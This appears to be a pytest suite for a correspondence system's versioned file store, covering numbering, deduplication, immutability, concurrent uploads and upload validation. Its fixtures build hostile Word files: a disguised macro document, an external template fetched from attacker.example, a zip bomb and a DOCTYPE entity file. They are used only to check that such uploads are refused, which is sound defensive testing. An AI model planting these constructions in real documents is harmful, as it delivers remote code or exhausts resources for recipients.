"""Files kept in the store as versions (files/versions.py, files/letter_versions.py), on SQLite and
PostgreSQL: numbered in order, the same bytes kept once, never changed or deleted once stored,
two uploads at once both kept; and what a new version of a letter must be (a draft's, a plain Word
.docx, with a reason), hostile Word files refused before anything is stored."""

from __future__ import annotations

import functools
import io
import threading
import time
import zipfile
from collections.abc import Callable

import pytest
from docx import Document
from sqlalchemy import create_engine, func, select, text
from sqlalchemy.exc import DBAPIError

from correspondence.files.letter_versions import add_version, current_version, letter_versions
from correspondence.files.versions import latest, read_bytes, store_file, versions_of
from correspondence.records.errors import InvalidInput
from correspondence.records.models import FileContent, FileVersion, Letter
from correspondence.records.store import Store, acting_as
from correspondence.records.vocabulary import FilePurpose
from correspondence.register.letters import get_letter
from tests.conftest import Cli

DRAFT = "MOPAC06092018-D2188"  # the example's draft s.55 response, version 1 drafted by the tool


@functools.lru_cache(maxsize=None)
def docx_bytes(*paragraphs: str, link: str | None = None) -> bytes:
    """A real Word file (the same bytes each time for the same words)."""
    document = Document()
    for words in paragraphs or ("Dear Home Secretary,",):
        document.add_paragraph(words)
    if link:
        from docx.opc.constants import RELATIONSHIP_TYPE
        from docx.oxml import OxmlElement
        from docx.oxml.ns import qn

        paragraph = document.add_paragraph("See ")
        hyperlink = OxmlElement("w:hyperlink")
        hyperlink.set(qn("r:id"), paragraph.part.relate_to(link, RELATIONSHIP_TYPE.HYPERLINK, is_external=True))
        run, words = OxmlElement("w:r"), OxmlElement("w:t")
        words.text = "the published report"
        run.append(words)
        hyperlink.append(run)
        paragraph._p.append(hyperlink)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rewritten(docx: bytes, change: Callable[[str, bytes], bytes | None], add: dict[str, bytes] | None = None) -> bytes:
    """A copy of a real .docx with each part passed through ``change`` and ``add``'s parts added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = change(item.filename, source.read(item.filename))
            if data is not None:
                target.writestr(item.filename, data)
        for name, data in (add or {}).items():
            target.writestr(name, data)
    return out.getvalue()


@pytest.fixture
def office(example_cli: Cli) -> Store:
    store = Store(example_cli.db_url)
    yield store
    store.dispose()


def test_versions_are_numbered_in_order_and_read_back_as_stored(office):
    with office.transaction() as session:
        letter = get_letter(session, DRAFT)
        first = current_version(session, letter)
        assert first.number == 1 and first.file_name == f"{DRAFT}.docx"
        second = add_version(session, letter, docx_bytes("Second."), file_name="C:\\Users\\dan\\Desktop\\edited.docx", why="edits")
        third = add_version(session, letter, docx_bytes("Third."), file_name="edited again.docx", why="more edits")
        preview = store_file(session, b"%PDF-1.7\n%%EOF\n", file_name="preview.pdf", purpose=FilePurpose.PREVIEW, letter=letter,
                             source=third)
    with office.reading() as session:
        letter = get_letter(session, DRAFT)
        versions = letter_versions(session, letter)
        assert [(v.number, v.file_name, v.why) for v in versions] == [
            (1, f"{DRAFT}.docx", versions[0].why), (2, "edited.docx", "edits"), (3, "edited again.docx", "more edits")]
        assert current_version(session, letter).id == third.id and letter.file_sha256 == third.sha256
        assert read_bytes(session, versions[1]) == docx_bytes("Second.") and versions[1].size == len(docx_bytes("Second."))
        assert "Third." in letter.body_text  # what the register's search reads is the current version's text
        assert latest(session, letter=letter, purpose=FilePurpose.PREVIEW).id == preview.id and preview.number == 1
        assert [v.number for v in versions_of(session, letter=letter, purpose=FilePurpose.PREVIEW)] == [1]
        assert first.id < second.id < third.id


def test_the_same_bytes_are_stored_once(office, example_cli):
    same = docx_bytes("The same letter twice.")
    followup = example_cli.json("draft", "followup", "1", "--office", "MOPAC", "--date", "4/5/2022")["reference"]
    with office.transaction() as session:
        one = add_version(session, get_letter(session, DRAFT), same, file_name="a.docx", why="edits")
        other = add_version(session, get_letter(session, followup), same, file_name="b.docx", why="the same edits")
    with office.reading() as session:
        assert one.content_id == other.content_id
        assert session.scalar(select(func.count()).select_from(FileContent).where(FileContent.sha256 == one.sha256)) == 1
        assert read_bytes(session, one) == read_bytes(session, other) == same


@pytest.mark.parametrize("statement", [
    "UPDATE file_contents SET content = :other",
    "UPDATE file_contents SET sha256 = :sha",
    "DELETE FROM file_contents",
    "UPDATE file_versions SET file_name = 'renamed.docx'",
    "UPDATE file_versions SET content_id = content_id",
], ids=["bytes changed", "hash changed", "bytes deleted", "version renamed", "version pointed elsewhere"])
def test_a_stored_version_cannot_be_changed_or_deleted_even_by_hand(office, statement):
    with office.reading() as session:
        before = [(v.id, v.file_name, v.sha256, read_bytes(session, v)) for v in session.scalars(select(FileVersion))]
    engine = create_engine(office.url)
    with pytest.raises(DBAPIError, match="a stored (file|version) is never"), engine.begin() as connection:
        connection.execute(text(statement), {"other": b"forged", "sha": "0" * 64})
    engine.dispose()
    with office.reading() as session:
        assert [(v.id, v.file_name, v.sha256, read_bytes(session, v)) for v in session.scalars(select(FileVersion))] == before


def test_two_people_uploading_a_version_of_one_letter_at_once_both_keep_theirs(office):
    """Four colleagues each upload three versions at the same moment, each in a session of their
    own (the workspace's threads): every version is kept, numbered 2 to 13 with no gap, and each
    colleague's versions in the order they uploaded them."""
    people, each = ["ann", "bob", "cat", "dan"], 3
    start = threading.Barrier(len(people))
    failures: list[BaseException] = []

    def upload(name: str) -> None:
        store = Store(office.url)
        try:
            start.wait()
            for number in range(1, each + 1):
                with acting_as(name), store.transaction() as session:
                    letter = session.get(Letter, get_letter(session, DRAFT).id)
                    add_version(session, letter, docx_bytes(f"{name}'s edit {number}"), file_name=f"{name}-{number}.docx",
                                why=f"{name}'s edit {number}")
                    time.sleep(0.05)  # the transaction stays open while the others try
        except BaseException as error:  # noqa: BLE001 - reported below
            failures.append(error)
        finally:
            store.dispose()

    threads = [threading.Thread(target=upload, args=(name,)) for name in people]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert failures == []
    with office.reading() as session:
        versions = letter_versions(session, get_letter(session, DRAFT))
        assert [v.number for v in versions] == list(range(1, len(people) * each + 2))
        for name in people:
            mine = [v for v in versions if v.added_by == name]
            assert [v.why for v in mine] == [f"{name}'s edit {n}" for n in range(1, each + 1)]
            assert [read_bytes(session, v) for v in mine] == [docx_bytes(f"{name}'s edit {n}") for n in range(1, each + 1)]
        assert get_letter(session, DRAFT).file_sha256 == versions[-1].sha256


def _refused(store: Store, reference: str, content: bytes, file_name: str, why: str, *fragments: str) -> None:
    with store.reading() as session:
        before = session.scalar(select(func.count()).select_from(FileVersion))
    with pytest.raises(InvalidInput) as refused, store.transaction() as session:
        add_version(session, get_letter(session, reference), content, file_name=file_name, why=why)
    for fragment in fragments:
        assert fragment in str(refused.value)
    with store.reading() as session:
        assert session.scalar(select(func.count()).select_from(FileVersion)) == before  # nothing stored


def test_a_new_version_is_only_for_a_draft_as_a_word_file_with_a_reason(office, example_cli, tmp_path):
    good = docx_bytes("Edited.")
    _refused(office, DRAFT, good, "edited.docx", "", "say why this version was made")
    _refused(office, DRAFT, good, "edited.docx", "   ", "say why this version was made")
    _refused(office, DRAFT, good, "edited.doc", "edits", "edited.doc: is not a Word .docx file")
    _refused(office, DRAFT, b"%PDF-1.7\n", "edited.pdf", "edits", "is not a Word .docx file")
    _refused(office, DRAFT, b"plain text", "edited.docx", "edits", "edited.docx: is not a Word .docx file")
    example_cli.ok("letter", "sent", DRAFT, "--date", "7/9/2018")
    _refused(office, DRAFT, good, "edited.docx", "edits", f"letter {DRAFT} was sent; a sent letter takes no new version")
    reply = tmp_path / "reply.txt"
    reply.write_text("Our ref: MPS/1\n4 May 2022\nDear Deputy Mayor\nThank you.\nYours sincerely\nMark Rowley\n", encoding="utf-8")
    example_cli.ok("letter", "import", str(reply), "--office", "MOPAC", "--direction", "in")
    _refused(office, "MPS/1", good, "edited.docx", "edits", "letter MPS/1 was received; it is kept as it came")


MACRO_MAIN = b"application/vnd.ms-word.document.macroEnabled.main+xml"
WORD_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXTERNAL_TEMPLATE = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                     b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                     b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                     b'Target="http://attacker.example/template.dotm" TargetMode="External"/></Relationships>')


def _macro_enabled(docx: bytes) -> bytes:
    return rewritten(docx, lambda name, data: data.replace(WORD_MAIN, MACRO_MAIN) if name == "[Content_Types].xml" else data,
                     {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"})


def _external_template(docx: bytes) -> bytes:
    return rewritten(docx, lambda name, data: None if name == "word/_rels/settings.xml.rels" else data,
                     {"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE})


def _zip_bomb(docx: bytes) -> bytes:
    return rewritten(docx, lambda name, data: data, {"word/media/image1.png": bytes(60 * 1024 * 1024)})


def _doctype(docx: bytes) -> bytes:
    def change(name: str, data: bytes) -> bytes:
        if name != "word/document.xml":
            return data
        body = data.split(b"?>", 1)[1].replace(b"<w:t>", b"<w:t>&who;", 1)
        return b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE w:document [<!ENTITY who "Sir Steve">]>' + body
    return rewritten(docx, change)


HOSTILE = [
    ("a macro-enabled document renamed .docx", _macro_enabled, "is a macro-enabled document; save it from Word as a plain .docx"),
    ("an external template", _external_template, "loads attachedTemplate from outside the document when opened"),
    ("a zip bomb", _zip_bomb, "would expand to 60 MB"),
    ("a DOCTYPE declaring entities", _doctype, "declares a DOCTYPE (XML entities), which Word never writes"),
]


@pytest.mark.parametrize(("what", "make", "message"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_a_hostile_word_file_is_refused_naming_the_upload_and_nothing_is_stored(office, what, make, message):
    hostile = make(docx_bytes("Looks like a letter."))
    _refused(office, DRAFT, hostile, "Response v3.docx", "the Chief Executive's edits", "Response v3.docx: ", message)


def test_a_plain_word_file_with_a_link_to_a_web_page_is_taken(office):
    linked = docx_bytes("Dear Home Secretary,", link="https://www.justiceinspectorates.gov.uk/hmicfrs/")
    with zipfile.ZipFile(io.BytesIO(linked)) as archive:
        assert b'TargetMode="External"' in archive.read("word/_rels/document.xml.rels")
    with office.transaction() as session:
        version = add_version(session, get_letter(session, DRAFT), linked, file_name="with a link.docx", why="added the link")
    with office.reading() as session:
        assert version.number == 2 and read_bytes(session, current_version(session, get_letter(session, DRAFT))) == linked
